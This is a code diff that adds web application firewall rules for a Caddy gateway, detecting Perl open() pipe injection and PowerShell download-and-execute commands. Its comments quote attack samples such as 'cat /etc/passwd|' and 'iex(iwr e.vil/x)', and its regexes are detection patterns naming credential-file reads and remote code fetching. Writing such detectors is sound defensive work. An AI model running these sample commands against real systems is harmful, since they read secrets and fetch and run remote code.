@@ -42,6 +42,9 @@ import (
 //     libinjection does not know, stacked after a number or a closed
 //     quote (stackedStatement): 1;grant all on users to public.
 //   - 210154: a number OR-ed with || (numericOrRule): 1||1.
+//   - 210158: a command then a '|' that ends the value, Perl's
+//     two-argument open() of a pipe (perlOpenPipeRule): id|,
+//     cat /etc/passwd|.
 //   - 210155: a number, or/and/xor/||/&& and a condition that ends the
 //     value (numericTautologyRule): 1 or true, 7 or 1, 1 or id=id,
 //     1 and 0, 1 and password glob 'a*'.
@@ -52,6 +55,7 @@ SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer 
 SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@` + sqliAfterSemicolonOp + `" "id:210153,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection after a semicolon',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
 SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@rx ` + numericOrRule + `" "id:210154,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection: a number OR-ed with ||',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
 SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@rx ` + spelledCommandRule + `" "id:210157,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a command spelled by variables or a glob, or getent',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+SecRule ARGS|REQUEST_COOKIES "@rx ` + perlOpenPipeRule() + `" "id:210158,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a command then a trailing pipe (Perl open)',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
 SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@rx ` + numericTautologyRule + `" "id:210155,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection: a number then a logical operator and a condition',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
 `
 
@@ -62,6 +66,22 @@ SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer 
 // cat), or getent with a database (getent passwd dumps the users): each
 // passed an eighth fresh-eyes attack (attack 12), checked on dash.
 const spelledCommandRule = "(?:[;|&`\\n]|\\$\\()\\s*(?:(?:\\$\\{?[a-zA-Z_]\\w*\\}?){2,}(?:\\s|$|[;|&)])|/(?:usr/)?s?bin/[\\w.-]*[?*\\[]|getent\\s+(?:passwd|shadow|group|gshadow|hosts|ahosts\\w*|services|networks|protocols|netgroup|initgroups|aliases|ethers|rpc)\\b)"
+
+// perlOpenPipeRule is rule 210158's expression: a value that is a command
+// and then a '|' at its end, which Perl's two-argument open() runs and
+// reads (open(my $f, $file) with ?file=id| runs id; a ninth fresh-eyes
+// attack, attack 13). A command of rule 210151's lists that is no word of
+// prose (whoami, curl, wget, ...) with any arguments, or one that is a
+// word too (id, cat, ls, ...) alone or with arguments that are options,
+// paths, variables, quoted strings or numbers (cat /etc/passwd|,
+// ls -la /|): "cat and dog|", "id | name |" and "head|tail|" pass. Not
+// covered: a command spelled with quotes or expansions between its
+// letters (i''d|), which 210151 reads after a separator only.
+func perlOpenPipeRule() string {
+	words := append(append([]string{"nc"}, shellCommandsWords...), shellCommandsNumber...)
+	return `^\s*(?:(?:` + strings.Join(shellCommandsAnyArgs, "|") + `)(?:[ \t][^|\n]*)?` +
+		`|(?:` + strings.Join(words, "|") + `)(?:[ \t]+(?:-[\w=.,-]*|[/~.$][^\s|]*|'[^'\n]*'|\"[^\"\n]*\"|\d[\w.]*))*)[ \t]*\|\s*\z`
+}
 
 // sqliAfterSemicolonOp is rule 210153's operator (sqliAfterSemicolon):
 // each part of a value after a ';', without a name= before it, read by
@@ -426,6 +446,19 @@ func shellCommandRule() string {
 		`(?i:start(?:[ \t]+(?:/\w+|\"[^\"]*\"))*[ \t]+`+winPath+`(?:cmd|powershell|pwsh|calc|rundll32|mshta|wscript|cscript|certutil|bitsadmin|regsvr32)\b)`)
 	// cmd.exe itself
 	withArgs = append(withArgs, `(?i:%comspec%|cmd(?:\.exe)?[ \t]+/[ck]\b)`)
+	// PowerShell (a ninth fresh-eyes attack, attack 13:
+	// 127.0.0.1;iex(iwr e.vil/x) and "| iex" passed): Invoke-Expression
+	// (iex) before what it runs, a string, a variable, a cast, a script
+	// block, -Command, or a cmdlet that fetches or reads one, in a group
+	// or not (iex(iwr ...),
+	// iex (New-Object Net.WebClient)..., iex $x); lower-case iex at the
+	// value's end or before a ';' (iwr x | iex); Invoke-WebRequest (iwr)
+	// and Invoke-RestMethod (irm) before an option, a quote, a variable or
+	// a URL or host name. "NYSE; IEX (Investors Exchange)", "| IEX |" and
+	// "DRM; IRM v2.0" are prose and pass.
+	withArgs = append(withArgs, `(?i:iex|invoke-expression)[ \t]*\(?[ \t]*(?:\$[a-zA-Z_({]|['\"\[{]|(?i:iwr|irm|new-object|invoke-\w+|get-content|gc|-c|-command)\b)`,
+		`iex[ \t]*(?:\z|;)`,
+		`(?i:iwr|irm|invoke-webrequest|invoke-restmethod)[ \t]+(?:-\w|['\"$(]|https?:|[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}(?:[:/]|\s|\z))`)
 	// a word in bash's ANSI-C quoting with an escape (a character by
 	// its code: \x69, \151, \u0069, \cA)
 	withArgs = append(withArgs, `[\w./'\"^-]*\$'(?:[^'\x5c]|\x5c.)*\x5c(?:x[0-9a-fA-F]|[0-7]|[uU][0-9a-fA-F]|c.)`)
